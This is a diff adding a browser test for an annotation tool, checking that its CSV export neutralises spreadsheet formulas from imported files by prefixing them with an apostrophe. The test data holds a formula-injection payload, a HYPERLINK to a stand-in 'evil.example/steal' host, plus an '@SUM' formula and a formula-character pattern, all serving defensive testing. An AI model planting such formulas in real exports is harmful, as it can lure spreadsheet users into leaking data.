@@ -205,6 +205,35 @@ test('Download CSV gives RFC 4180 rows: header, one row per annotation, quoted f
   }
 });
 
+test('Download CSV makes a formula from an imported file inert: its cell starts with an apostrophe', async ({ page }, testInfo) => {
+  await openFresh(page);
+  const formula = '=HYPERLINK("http://evil.example/steal","click me")';
+  const item = (id, exact, note) => ({
+    '@context': 'http://www.w3.org/ns/anno.jsonld',
+    id: `https://other.example/a/${id}`,
+    type: 'Annotation',
+    body: [
+      { type: 'TextualBody', purpose: 'tagging', value: 'claim' },
+      { type: 'TextualBody', purpose: 'commenting', value: note },
+    ],
+    target: { source: 'https://news.example/flood', selector: [{ type: 'TextQuoteSelector', exact }] },
+  });
+  const items = [
+    item('f1', 'will protect an estimated 4,300 homes', formula),
+    item('f2', 'The barrier', '@SUM(1+1)'),
+    item('f3', 'Some residents remain unconvinced.', 'a plain note - with a dash'),
+  ];
+  await importInput(page).setInputFiles({ name: 'formulas.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(items)) });
+  await expect(page.getByRole('status')).toContainText('Imported 3 annotation(s)');
+  // Shown as written in the panel: only the spreadsheet export changes it.
+  await expect(page.getByRole('list', { name: 'Annotations', exact: true })).toContainText(formula);
+  const file = await download(page, 'Download CSV', testInfo, 'formulas.csv');
+  const notes = parseCsv(file.text).slice(1).map((row) => row[5]).sort();
+  expect(notes).toEqual([`'${formula}`, "'@SUM(1+1)", 'a plain note - with a dash'].sort());
+  // No cell of the file begins with a formula character.
+  for (const row of parseCsv(file.text)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+});
+
 test('CSV doubles straight quotes and quotes a quote that spans two paragraphs', async ({ page }, testInfo) => {
   await openFresh(page);
   await pasteArticle(page, 'Straight quotes\nThe sign said "closed", so we left.\nNext morning it was open.');
